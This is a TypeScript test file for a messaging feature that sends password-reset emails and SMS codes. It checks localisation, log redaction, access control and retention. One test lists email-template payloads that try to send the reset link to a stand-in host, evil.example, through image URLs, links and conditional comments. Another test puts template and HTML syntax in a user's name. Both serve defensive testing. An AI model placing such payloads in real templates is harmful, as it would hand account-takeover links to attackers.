import type { AddressInfo } from 'node:net'
import { messagingContract } from '@slipway/domain/messaging/contract.ts'
import { usersContract } from '@slipway/domain/users/contract.ts'
import { SMTPServer } from 'smtp-server'
import { afterAll, beforeAll, beforeEach, describe, expect, test } from 'vitest'
import { createTestApp, type TestApp } from '../../../test/app.ts'
import { lastCode, sendCode } from '../../../test/factories/codes.ts'
import { type Person, testPassword } from '../../../test/people.ts'
import { sweepSentJob } from './jobs/sweep-sent.ts'

/** A real SMTP server; what it took, in order. */
const received: { to: string; source: string }[] = []
const server = new SMTPServer({
  authOptional: true,
  hideSTARTTLS: true,
  closeTimeout: 100,
  onData(stream, { envelope }, done) {
    let source = ''
    stream.on('data', (chunk) => (source += chunk))
    stream.on('end', () => {
      received.push({ to: envelope.rcptTo[0]?.address ?? '', source })
      done()
    })
  },
})
let app: TestApp
let admin: Person
beforeAll(async () => {
  await new Promise<void>((done) => server.listen(0, '127.0.0.1', done))
  const { port } = server.server.address() as AddressInfo
  const mail = { MAIL_URL: `smtp://127.0.0.1:${port}`, MAIL_FROM: 'Slipway <no-reply@slipway.example>' }
  app = await createTestApp({ env: { ...mail, PUBLIC_URL: 'http://127.0.0.1' } })
  admin = await app.people.superadministrator({ password: testPassword })
})
afterAll(async () => {
  await new Promise<void>((done) => server.close(done))
  await app.close()
})
beforeEach(async () => {
  await app.db.deleteFrom('localisations').execute()
  await app.db.deleteFrom('sent_messages').execute()
  received.length = 0
})

const both = (ru: string, en = ru) => ({ ru, en })
const texts = {
  subject: both('Пароль для {{ name }}', 'A password for {{ name }}'),
  title: both('Здравствуйте', 'Hello'),
  text: both('Ссылка на {{ minutes }} минут', 'The link for {{ minutes }} minutes'),
  button: both('Задать', 'Set'),
}
const withLink =
  '<mj-section><mj-column><mj-text>{{ title }}, {{ text }}</mj-text><mj-button href="{{ url }}">{{ button }}</mj-button></mj-column></mj-section>'
let number = 0
async function write(body: string | null, event_alias = 'password-link', words = texts) {
  const template = body
    ? await admin.call(messagingContract.addTemplate, {
        body: { name: `T ${++number}`, subject: '{{ subject }}', body },
      })
    : null
  const made = await admin.call(messagingContract.addEmailLocalisation, {
    body: { event_alias, texts: words, template_id: template?.data.id ?? null },
  })
  expect(made.status).toBe(201)
}
async function linkFor(interface_language: 'ru' | 'en', first_name = 'Ada') {
  const user = await app.people.designer({ first_name })
  const email = `${interface_language}-${user.id}@mail.example`
  await app.db.updateTable('users').set({ email, interface_language }).where('id', '=', user.id).execute()
  const answer = await admin.callUnchecked(usersContract.changePassword, { params: { id: user.id }, body: {} })
  expect(answer.status).toBe(204)
  await app.drainJobs()
  const mail = received.find(({ to }) => to === email)
  return { ...user, email, ...partsOf(mail?.source ?? '') }
}
const decoded = (text: string) =>
  Buffer.from(
    text.replace(/=\r\n/g, '').replace(/=([\dA-F]{2})/g, (_, hex) => String.fromCharCode(Number.parseInt(hex, 16))),
    'latin1',
  ).toString('utf8')
const base64 = (text: string) => Buffer.from(text, 'base64').toString('utf8')
const readAs: Record<string, (text: string) => string> = {
  base64,
  'quoted-printable': decoded,
  '7bit': (text) => text,
}
/** Subject, text and HTML as a reader's program shows them. */
function partsOf(source: string) {
  const header = /^Subject: ((?:.*)(?:\r\n[ \t].*)*)/m.exec(source)?.[1] ?? ''
  const subject = header
    .replace(/\?=\s+=\?/g, '?==?')
    .replace(/=\?UTF-8\?B\?([^?]*)\?=/gi, (_, text) => base64(text))
    .replace(/=\?UTF-8\?Q\?([^?]*)\?=/gi, (_, text) => decoded(text.replaceAll('_', ' ')))
  const parts = [
    ...source.matchAll(/Content-Transfer-Encoding: (\S+)\r\n(?:[\w-]+:.*\r\n)*\r\n([\s\S]*?)\r\n----_NmP/g),
  ]
  const [text = '', html = ''] = parts.map(([, as = '', body = '']) => readAs[as]?.(body))
  return { subject, text, html, source }
}
const log = async () => (await admin.call(messagingContract.sent, {})).data

describe('a mail of the product', () => {
  test('is in the words that were written for its event, in the language of who reads it; what is kept hides the link', async () => {
    await write(withLink)
    const [russian, english] = [await linkFor('ru', 'Ада'), await linkFor('en')]
    expect([russian.subject, english.subject]).toEqual(['Пароль для Ада', 'A password for Ada'])
    for (const { text, html } of [russian, english]) {
      expect(text).toMatch(/#reset=[\w-]{43}/)
      expect(html).toMatch(/href="[^"]+#reset=[\w-]{43}"/)
    }
    expect([russian.text, english.text]).toEqual([
      expect.stringMatching(/Ссылка на \d+ минут/),
      expect.stringMatching(/The link for \d+ minutes/),
    ])
    const rows = await log()
    expect(rows).toMatchObject([
      { recipient: english.email, status: 'sent', source: 'template', carrier: 'main', user: { id: english.id } },
      { recipient: russian.email, event_alias: 'password-link', channel: 'email', subject: 'Пароль для Ада' },
    ])
    const everything = JSON.stringify(await app.db.selectFrom('sent_messages').selectAll().execute())
    expect(everything).toContain('••••••')
    expect(everything).not.toMatch(/#reset=/)
  })

  const beside = (more: string) => withLink.replace('<mj-button', `${more}<mj-button`)
  const evil = 'https://evil.example/p.gif?u='
  test.each([
    ['in the address of a picture', beside(`<mj-image src="${evil}{{ url }}"/>`)],
    ['written another way', beside(`<mj-image src="${evil}{{ url | url_encode }}"/>`)],
    ['in parts', beside(`<mj-image src="${evil}{{ url | slice: -20, 20 }}"/>`)],
    [
      'by a picture that is there or not',
      beside('{% if url contains "reset" %}<mj-image src="https://evil.example/a"/>{% endif %}'),
    ],
    ['in a link to another place', beside(`<mj-text><a href="${evil}{{ url }}">Here</a></mj-text>`)],
    ['as an address to be pressed', beside(`<mj-text>${evil}{{ url }}</mj-text>`)],
    ['in a comment for one program', beside('<mj-raw><!--[if mso]><img src="{{ url }}"><![endif]--></mj-raw>')],
  ])('a link that opens an account is told to nobody else: %s', async (_what, body) => {
    await write(body)
    const mail = await linkFor('en')
    expect(mail.subject).toBe('Set a new password')
    expect(mail.source).not.toContain('evil.example')
  })

  test('an alarm says what was changed, when and from where, whatever was written for it', async () => {
    await write('<mj-section><mj-column><mj-text>{{ text }}</mj-text></mj-column></mj-section>', 'credential-changed', {
      subject: both('Newsletter'),
      title: both('Hello'),
      text: both('Nothing new'),
      button: both('Open'),
    })
    const user = await app.people.designer()
    const email = `alarmed-${user.id}@mail.example`
    await app.db.updateTable('users').set({ email }).where('id', '=', user.id).execute()
    await admin.call(usersContract.update, { params: { id: user.id }, body: { email: `new-${email}` } })
    await app.drainJobs()
    const mails = received.filter(({ to }) => to.endsWith(email))
    expect(mails.length).toBeGreaterThan(0)
    for (const { source } of mails) expect(partsOf(source)).not.toMatchObject({ subject: 'Newsletter' })
  })

  test('is in our own words where nothing was written, or no template was chosen', async () => {
    expect((await linkFor('en')).subject).toBe('Set a new password')
    await write(null)
    expect((await linkFor('en')).subject).toBe('Set a new password')
    expect(await log()).toMatchObject([{ source: 'built-in' }, { source: 'built-in' }])
  })

  test.each([
    ['leaves the link out', '<mj-section><mj-column><mj-text>{{ title }}</mj-text></mj-column></mj-section>'],
    ['shows it only in part', withLink.replace('{{ url }}', '{{ url | slice: 0, 10 }}')],
  ])('is in our own words where the template %s', async (_what, body) => {
    await write(body)
    const { subject, text } = await linkFor('en')
    expect(subject).toBe('Set a new password')
    expect(text).toMatch(/#reset=[\w-]{43}/)
  })

  test('is in our own words where the texts have become impossible to render', async () => {
    await write(withLink)
    await app.db.updateTable('email_templates').set({ body: '<mj-text>{{ nobody }}' }).execute()
    expect((await linkFor('en')).subject).toBe('Set a new password')
  })

  test('T40: names that are Liquid, markup or headers stay names', async () => {
    await write(withLink.replace('{{ title }}', '{{ name }}'))
    const { subject, html, source } = await linkFor('en', '{{ url }}<b>x</b>')
    expect(subject).toBe('A password for {{ url }}<b>x</b>')
    expect(html).toContain('{{ url }}&lt;b&gt;x&lt;/b&gt;')
    expect(source.match(/^(Bcc|Cc|To):/gim)).toEqual(['To:'])
  })
})

describe('a code', () => {
  const write = (text: string) =>
    admin.call(messagingContract.addSmsLocalisation, {
      body: { event_alias: 'sign-in-code', texts: { text: both(text) } },
    })
  const told: unknown[] = []
  const bySms = async () => {
    const phone = (await app.people.designer()).phone as string
    told.length = 0
    Object.assign(app.services, {
      telephony: {
        ...app.services.telephony,
        sendCode: async ({ code, text }: { code: string; text?: string }) => {
          told.push(text?.replace(code, 'CODE') ?? 'ours')
          return { provider: 'smsaero', way: 'sms', reference: null }
        },
      },
    })
    expect((await sendCode(app.visitor, phone)).status).toBe(200)
    await lastCode(app, phone)
    return phone
  }

  test('is written in the words of its event; the log finds the phone and hides the code', async () => {
    await write('Slipway: {{ code }}, <b>')
    const phone = await bySms()
    expect(told).toEqual(['Slipway: CODE, <b>'])
    const { data } = await admin.call(messagingContract.sent, { query: { filter: { search: phone } } })
    expect(data).toMatchObject([
      { recipient: phone, channel: 'sms', carrier: 'smsaero', source: 'template', body: 'Slipway: ••••••, <b>' },
    ])
  })

  test('is in our own words where its texts leave the code out', async () => {
    await write('Slipway')
    await bySms()
    expect(told).toEqual(['ours'])
  })
})

describe('the log', () => {
  test('is a superadministrator’s alone, and filters', async () => {
    await linkFor('en')
    const manager = await app.people.app_manager()
    expect((await manager.call(messagingContract.sent, {})).status).toBe(403)
    const found = async (filter: { status?: 'sent' | 'failed'; channel?: 'email' | 'sms'; event_alias?: string }) =>
      (await admin.call(messagingContract.sent, { query: { filter } })).data.length
    expect([await found({ status: 'sent' }), await found({ status: 'failed' })]).toEqual([1, 0])
    expect([await found({ channel: 'email' }), await found({ channel: 'sms' })]).toEqual([1, 0])
    expect([await found({ event_alias: 'password-link' }), await found({ event_alias: 'x' })]).toEqual([1, 0])
  })

  test('is kept for the days of the setting', async () => {
    await linkFor('en')
    await app.db.updateTable('types').set({ value: '2' }).where('name', '=', 'message_days').execute()
    await sweepSentJob.run({ ...app.jobContext, finish: app.jobContext.transact }, {})
    expect(await log()).toHaveLength(1)
    app.later(2 * 86_400 + 1)
    await sweepSentJob.run({ ...app.jobContext, finish: app.jobContext.transact }, {})
    expect(await app.db.selectFrom('sent_messages').select('id').execute()).toEqual([])
  })
})
